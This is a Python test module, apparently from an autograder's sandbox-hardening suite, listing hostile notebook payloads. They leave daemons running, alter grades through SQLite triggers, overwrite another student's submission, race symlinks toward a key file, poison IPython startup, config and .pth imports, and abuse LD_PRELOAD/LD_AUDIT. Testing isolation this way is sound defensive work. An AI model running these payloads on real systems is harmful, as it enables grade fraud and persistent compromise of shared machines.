"""What goes on after its notebook, and what is left for those who come after: processes, files, links, settings."""

from tests.hostile.attacks.attack import Attack

WRONG = "\ndef mean(numbers): return 0"
NAMED = """
def named():
    with open("/proc/self/comm", "w") as file: file.write(MARK)
"""
DAEMON = (
    NAMED
    + """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        named()
        for number in range(64):
            try: os.close(number)
            except OSError: pass
        while True: time.sleep(1000)
    os._exit(0)
os.wait()
"""
)
SESSION = """
import subprocess
program = f"open('/proc/self/comm', 'w').write({MARK!r}); import time; time.sleep(1000)"
nowhere = {name: subprocess.DEVNULL for name in ("stdin", "stdout", "stderr")}
subprocess.Popen([sys.executable, "-S", "-c", program], start_new_session=True, **nowhere)
"""
TRIGGER = """
import sqlite3
with sqlite3.connect(f"{ROOM}/gradebook.db", timeout=1) as book:
    book.execute("CREATE TRIGGER more AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 9; END")
"""
ROWS = """
import sqlite3
with sqlite3.connect(f"{ROOM}/gradebook.db", timeout=1) as book:
    book.execute("UPDATE grade SET manual_score = 0")
"""
SUBMITS = """
import json
place = f"{ROOM}/submitted/zoe/ps1/siege.ipynb"
with open(place) as file: notebook = json.load(file)
for cell in notebook["cells"]: cell["source"] = ""
os.chmod(place, 0o644)
with open(place, "w") as file: json.dump(notebook, file)
"""
LINKS = """
for place in ["siege.ipynb"]:
    try: os.remove(place)
    except OSError: pass
    os.symlink(f"{ROOM}/submitted/zoe/ps1/siege.ipynb", place)
"""
SWAPS = """
here = os.getcwd()
os.rename(here, here + "-was")
os.symlink(f"{ROOM}/submitted/zoe/ps1", here)
"""
RACES = """
import threading, time
target = f"{ROOM}/keys/seed"
def swap():
    while True:
        try:
            os.symlink(target, "race")
            os.replace("race", "note")
            time.sleep(0.001)
        except OSError: return
threading.Thread(target=swap, daemon=True).start()
time.sleep(0.1)
def note(text):
    with open("note", "w") as file: file.write("forged")
"""
STARTUP = """
place = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(place, exist_ok=True)
with open(f"{place}/00.py", "w") as file: file.write("import builtins\\nbuiltins.sum = lambda *_: 0\\n")
"""
CONFIGURES = """
with open(f"{ROOM}/nbgrader_config.py", "a") as file: file.write("import os\\n")
"""
SHADOWS = """
import site
for place in {*sys.path, site.getusersitepackages(), ROOM, "/tmp", "/opt/course", os.path.dirname(os.__file__)}:
    try:
        with open(os.path.join(place or ".", "nbgrader_siege.pth"), "w") as file: file.write("import os")
        if place not in ("", "/tmp") and place != os.getcwd(): print("GOT into", place)
    except OSError: pass
"""
PRELOADS = """
import glob, subprocess
hooks = glob.glob("/lib/*/libpcprofile.so") + glob.glob("/usr/lib/*/libpcprofile.so")
os.environ.update(LD_PRELOAD=":".join(hooks[:1]), PCPROFILE_OUTPUT=f"{ROOM}/keys/seed")
subprocess.run(["/bin/true"])
"""
AUDITS = PRELOADS.replace("LD_PRELOAD", "LD_AUDIT")

ATTACKS = (
    Attack("daemon", "leftover daemons", "a process that nobody waits for", DAEMON + WRONG),
    Attack("own-session", "leftover daemons", "a program in a session of its own", SESSION + WRONG),
    Attack(
        "trigger", "gradebook tampering", "nine points for everybody, whenever the gradebook changes", TRIGGER + WRONG
    ),
    Attack("takes-points", "gradebook tampering", "no points for those who were graded before", ROWS + WRONG),
    Attack(
        "submits-for-another", "gradebook tampering", "an empty submission in the place of another's", SUBMITS + WRONG
    ),
    Attack("links-its-result", "symlink races", "its graded notebook, written where a link leads", LINKS + WRONG),
    Attack("swaps-its-folder", "symlink races", "the same, with a link in place of the whole folder", SWAPS + WRONG),
    Attack("races-a-link", "symlink races", "a file that is a link whenever it is written", RACES, "note"),
    Attack("poisons-the-start", "poison for the next", "what IPython runs when it starts, for others", STARTUP + WRONG),
    Attack(
        "poisons-the-config", "poison for the next", "nbgrader's configuration, which is a program", CONFIGURES + WRONG
    ),
    Attack("poisons-the-path", "poison for the next", "a place from which other programs import", SHADOWS + WRONG),
    Attack("preloads", "LD_PRELOAD", "a library of the system's that writes where it is told to", PRELOADS + WRONG),
    Attack("audits", "LD_PRELOAD", "the same library, let in as one that audits the linker", AUDITS + WRONG),
)
